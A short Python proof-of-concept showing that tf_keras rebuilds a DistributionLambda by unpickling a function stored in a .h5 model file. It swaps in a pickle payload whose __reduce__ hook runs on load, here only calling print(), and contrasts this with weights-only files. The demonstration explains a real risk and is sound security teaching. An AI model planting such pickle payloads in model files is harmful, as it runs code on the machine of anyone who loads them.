# A model file can run code when it is loaded: tf_keras rebuilds a
# DistributionLambda
# by unpickling the function stored in the file, and .h5 has no safe mode.
import base64
import json
import pickle

import h5py
import numpy as np
import tensorflow as tf
import tensorflow_probability as tfp
import tf_keras

tfd = tfp.distributions
model = tf_keras.Sequential(
    [
        tf_keras.layers.Input(shape=(1,)),
        tf_keras.layers.Dense(2),
        tfp.layers.DistributionLambda(
            lambda t: tfd.Normal(
                t[..., :1], 1e-3 + tf.math.softplus(t[..., 1:])
            )
        ),
    ]
)
model.save("model.h5")
with h5py.File("model.h5", "r") as f:
    stored = json.loads(f.attrs["model_config"])["config"]["layers"][-1][
        "config"
    ]
raw = base64.b64decode(stored["make_distribution_fn"])
# A pickle starts with the PROTO opcode (0x80) and its protocol number.
print(
    "stored make_distribution_fn: a pickle, protocol",
    raw[1] if raw[:1] == b"\x80" else "?",
    "- made by cloudpickle:",
    b"cloudpickle" in raw,
)


# Anyone who can edit the file can swap in another pickle. This harmless one
# calls print().
class Payload:
    def __reduce__(self):
        return (print, ("!!! this line was run by code stored in model.h5",))


with h5py.File("model.h5", "r+") as f:
    config = json.loads(f.attrs["model_config"])
    config["config"]["layers"][-1]["config"]["make_distribution_fn"] = (
        base64.b64encode(pickle.dumps(Payload())).decode()
    )
    f.attrs["model_config"] = json.dumps(config)

try:
    tf_keras.models.load_model(
        "model.h5", compile=False
    )  # no safe_mode for .h5
except Exception as exc:
    print(
        "the load then failed with",
        type(exc).__name__,
        "- after the code had run",
    )

# A weights file holds arrays only: nothing in it is executed.
model.save_weights("model.weights.h5")
with h5py.File("model.weights.h5", "r") as f:
    kinds = set()
    f.visititems(
        lambda name, obj: (
            kinds.add(obj.dtype.name)
            if isinstance(obj, h5py.Dataset)
            else None
        )
    )
print("datasets in model.weights.h5 are of type:", sorted(kinds))
